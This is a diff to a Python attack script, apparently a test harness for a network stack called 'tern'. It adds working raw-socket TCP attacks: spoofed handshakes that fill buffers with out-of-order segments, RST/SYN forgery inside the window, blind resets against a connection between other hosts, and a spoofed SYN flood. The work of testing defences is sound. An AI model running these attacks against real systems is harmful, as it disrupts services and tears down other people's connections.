@@ -11,6 +11,9 @@
 #       --tern-ip IP [--atk-ip IP] [--legit-ip IP] [--count N] [--rate PPS]
 #       [--seconds S] [--spoof-base IP] [--spoof-n N] [--ident N] ...
 #
+# TCP kinds (tcp-ofo, tcp-forge, tcp-blind, syn-flood) build their frames
+# by hand and, for tcp-ofo, read tern's SYN-ACKs from the same socket.
+#
 # Needs scapy: run it with /usr/bin/python3 (Debian's python3-scapy).
 import argparse
 import errno
@@ -314,6 +317,204 @@ class Forge:
                 for i in range(a.count)]
 
 
+# ---- TCP: handshakes of the attacker's own, then data above a hole ------------
+#
+# The attacker speaks TCP from --spoof-base (an address its own kernel does
+# not have, so the kernel never resets tern's SYN-ACKs; the test gives tern
+# a static ARP entry for it) on ports --sport .. --sport + --conns - 1, with
+# frames of its own on the AF_PACKET socket, and keeps what it learnt
+# (ports, sequence numbers) in --state, so a later run can forge on the
+# same connections.
+
+TH_FIN, TH_SYN, TH_RST, TH_PSH, TH_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
+
+
+def tcp_frame(a, src, dst, sport, dport, seq, ack, flags, payload=b"", win=65535, opts=b""):
+    """Ethernet + IPv4 + TCP, checksums right, from the attacker's MAC."""
+    opts = opts + b"\0" * (-len(opts) % 4)
+    thl = 20 + len(opts)
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
+                      (thl // 4) << 4, flags, win, 0, 0) + opts + payload
+    ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
+    c = csum(ph + tcp)
+    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
+                     socket.inet_aton(src), socket.inet_aton(dst))
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    eth = bytes.fromhex(a.tern_mac.replace(":", "")) + bytes.fromhex(a.mac.replace(":", "")) + b"\x08\x00"
+    return eth + ip + tcp
+
+
+def parse_tcp(frame):
+    """(src, dst, sport, dport, seq, ack, flags, win) of an IPv4/TCP frame, else None."""
+    if len(frame) < ETH_HLEN + 40 or frame[12:14] != b"\x08\x00" or frame[ETH_HLEN + 9] != 6:
+        return None
+    ihl = (frame[ETH_HLEN] & 0x0F) * 4
+    t = ETH_HLEN + ihl
+    if len(frame) < t + 20:
+        return None
+    sport, dport, seq, ack, _, flags, win = struct.unpack("!HHIIBBH", frame[t:t + 16])
+    return (socket.inet_ntoa(frame[ETH_HLEN + 12:ETH_HLEN + 16]),
+            socket.inet_ntoa(frame[ETH_HLEN + 16:ETH_HLEN + 20]), sport, dport, seq, ack, flags, win)
+
+
+def raw_socket(a):
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    s.bind((a.iface, 0))
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+    return s
+
+
+def tcp_handshakes(a, s, deadline):
+    """SYNs from --conns ports; ACK each SYN-ACK. Returns {sport: [our_nxt, their_nxt]}."""
+    src = a.spoof_base
+    isn = {a.sport + i: (0x10000000 + 0x01000000 * i) & 0xFFFFFFFF for i in range(a.conns)}
+    mss_ws = b"\x02\x04\x05\xb4\x01\x03\x03\x07"  # MSS 1460, NOP, window scale 7
+    conns = {}
+    sent_at = {}
+    s.settimeout(0.05)
+    while len(conns) < a.conns and time.monotonic() < deadline:
+        now = time.monotonic()
+        for p, i0 in isn.items():  # (re)send SYNs still unanswered, once a second
+            if p not in conns and now - sent_at.get(p, -9) >= 1.0:
+                s.send(tcp_frame(a, src, a.tern_ip, p, a.dport, i0, 0, TH_SYN, opts=mss_ws))
+                sent_at[p] = now
+        end = time.monotonic() + 0.2
+        while time.monotonic() < end:
+            try:
+                f = s.recv(65535)
+            except socket.timeout:
+                break
+            t = parse_tcp(f)
+            if not t or t[0] != a.tern_ip or t[1] != src or t[2] != a.dport or t[3] not in isn:
+                continue
+            _, _, _, p, seq, ack, flags, _ = t
+            if flags & (TH_SYN | TH_ACK) == (TH_SYN | TH_ACK) and ack == (isn[p] + 1) & 0xFFFFFFFF:
+                conns[p] = [(isn[p] + 1) & 0xFFFFFFFF, (seq + 1) & 0xFFFFFFFF]
+                s.send(tcp_frame(a, src, a.tern_ip, p, a.dport, conns[p][0], conns[p][1], TH_ACK,
+                                 win=4096))
+    return conns
+
+
+def tcp_ofo(a):
+    """--conns connections, then on each --segs one-byte segments above a
+    one-byte hole at its next sequence number: each held costs tern a whole
+    buffer, and SO_RCVBUF alone bounds only one connection's share."""
+    s = raw_socket(a)
+    t0 = time.monotonic()
+    deadline = t0 + a.seconds
+    conns = tcp_handshakes(a, s, deadline)
+    frames = []
+    for k in range(a.segs):
+        for p, (nxt, rnxt) in conns.items():
+            frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 1 + 2 * k, rnxt,
+                                    TH_ACK, payload=b"X", win=4096))
+    sent = send_frames(a, s, frames, t0, deadline)
+    with open(a.state, "w") as f:
+        for p, (nxt, rnxt) in sorted(conns.items()):
+            f.write("%d %d %d\n" % (p, nxt, rnxt))
+    dt = time.monotonic() - t0
+    print("attack tcp-ofo: %d of %d connections made, sent %d out-of-order segments in %.2f s" %
+          (len(conns), a.conns, sent, dt), flush=True)
+
+
+def tcp_forge(a):
+    """On the connections of --state: --count rounds of an RST inside the
+    window but not at RCV.NXT, a SYN at RCV.NXT (RFC 5961 §3.2, §4.2:
+    challenge ACKs, rate-limited) and an RST a half sequence space away
+    (outside any window: dropped). With --what reset, one RST at RCV.NXT
+    each instead (accepted: the attacker leaves)."""
+    s = raw_socket(a)
+    conns = [tuple(int(x) for x in line.split()) for line in open(a.state)]
+    frames = []
+    if a.what == "reset":
+        for p, nxt, rnxt in conns:
+            frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt, 0, TH_RST, win=0))
+    else:
+        for _ in range(a.count):
+            for p, nxt, rnxt in conns:
+                frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 1000, 0, TH_RST,
+                                        win=0))
+                frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt, 0, TH_SYN))
+                frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 0x40000000, 0,
+                                        TH_RST, win=0))
+    t0 = time.monotonic()
+    sent = send_frames(a, s, frames, t0, t0 + a.seconds)
+    print("attack tcp-forge %s: sent %d frames on %d connections in %.2f s" %
+          (a.what or "rst,syn", sent, len(conns), time.monotonic() - t0), flush=True)
+
+
+def tcp_blind(a):
+    """Blind forgeries against a connection the attacker is not part of
+    (--legit-ip:--sport to tern's --dport): --count RSTs whose sequence
+    numbers step across the whole space, and --count SYNs at random ones."""
+    s = raw_socket(a)
+    frames = []
+    step = (1 << 32) // max(1, a.count)
+    for i in range(a.count):
+        frames.append(tcp_frame(a, a.legit_ip, a.tern_ip, a.sport, a.dport, i * step, 0, TH_RST, win=0))
+        frames.append(tcp_frame(a, a.legit_ip, a.tern_ip, a.sport, a.dport, self_rand(a), 0, TH_SYN))
+    t0 = time.monotonic()
+    sent = send_frames(a, s, frames, t0, t0 + a.seconds)
+    print("attack tcp-blind: sent %d frames in %.2f s" % (sent, time.monotonic() - t0), flush=True)
+
+
+_RNG = None
+
+
+def self_rand(a):
+    global _RNG
+    if _RNG is None:
+        _RNG = random.Random(a.seed)
+    return _RNG.randrange(1 << 32)
+
+
+def syn_flood(a):
+    """--count SYNs to --dport from random sources among the --spoof-n
+    addresses from --spoof-base (on tern's link, tern's SYN-ACKs wait for
+    ARP that never answers: they fill its neighbour queues as well as its
+    half-open budget)."""
+    rng = random.Random(a.seed)
+    base = ip2int(a.spoof_base)
+    s = raw_socket(a)
+    frames = []
+    mss = b"\x02\x04\x05\xb4"
+    for i in range(a.count):
+        src = int2ip(base + rng.randrange(max(1, a.spoof_n)))
+        frames.append(tcp_frame(a, src, a.tern_ip, rng.randrange(1024, 65536), a.dport,
+                                rng.randrange(1 << 32), 0, TH_SYN, opts=mss))
+    t0 = time.monotonic()
+    sent = send_frames(a, s, frames, t0, t0 + a.seconds)
+    dt = time.monotonic() - t0
+    print("attack syn-flood: sent %d frames in %.2f s (%.0f/s)" % (sent, dt, sent / dt if dt else 0),
+          flush=True)
+
+
+def send_frames(a, s, frames, t0, deadline):
+    """Send frames at --rate (0: as fast as the socket takes them) until the
+    deadline; returns how many went."""
+    sent = 0
+    s.setblocking(True)
+    start = time.monotonic()
+    for f in frames:
+        now = time.monotonic()
+        if now >= deadline:
+            break
+        if a.rate > 0 and sent % 16 == 0:
+            due = start + sent / a.rate
+            if due > now:
+                time.sleep(min(due - now, deadline - now))
+        try:
+            s.send(f)
+            sent += 1
+        except OSError as e:
+            if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
+                raise
+            time.sleep(0.0005)
+    return sent
+
+
 def send_all(a, frames):
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((a.iface, 0))
@@ -372,6 +573,9 @@ def main():
     p.add_argument("--tha", default="00:00:00:00:00:00")
     p.add_argument("--tpa", default="0.0.0.0")
     p.add_argument("--eth-dst", default="")
+    p.add_argument("--conns", type=int, default=128, help="tcp-ofo: connections to make")
+    p.add_argument("--segs", type=int, default=100, help="tcp-ofo: out-of-order segments on each")
+    p.add_argument("--state", default="", help="tcp-ofo writes, tcp-forge reads, the connections")
     a = p.parse_args()
     if a.count < 0 or a.count > 200000 or a.seconds <= 0 or a.seconds > 60:
         raise SystemExit("attack.py: --count must be 0..200000 and --seconds 0..60")
@@ -381,8 +585,19 @@ def main():
         "arp": Forge.arp, "arp-flood": Forge.arp_flood, "hdr": Forge.hdr,
         "udp-flood": Forge.udp_flood, "echo-flood": Forge.echo_flood,
     }
+    runners = {"tcp-ofo": tcp_ofo, "tcp-forge": tcp_forge, "tcp-blind": tcp_blind,
+               "syn-flood": syn_flood}
+    if a.conns < 1 or a.conns > 1024 or a.segs < 0 or a.segs > 1000:
+        raise SystemExit("attack.py: --conns must be 1..1024 and --segs 0..1000")
+    if a.conns * a.segs > 200000:
+        raise SystemExit("attack.py: --conns x --segs must be at most 200000 frames")
+    if a.kind in runners:
+        if a.kind in ("tcp-ofo", "tcp-forge") and not a.state:
+            raise SystemExit("attack.py: %s needs --state FILE" % a.kind)
+        return runners[a.kind](a)
     if a.kind not in builders:
-        raise SystemExit("attack.py: unknown kind %s (one of %s)" % (a.kind, " ".join(builders)))
+        raise SystemExit("attack.py: unknown kind %s (one of %s)" %
+                         (a.kind, " ".join(list(builders) + list(runners))))
     frames = builders[a.kind](Forge(a))
     send_all(a, frames)
 
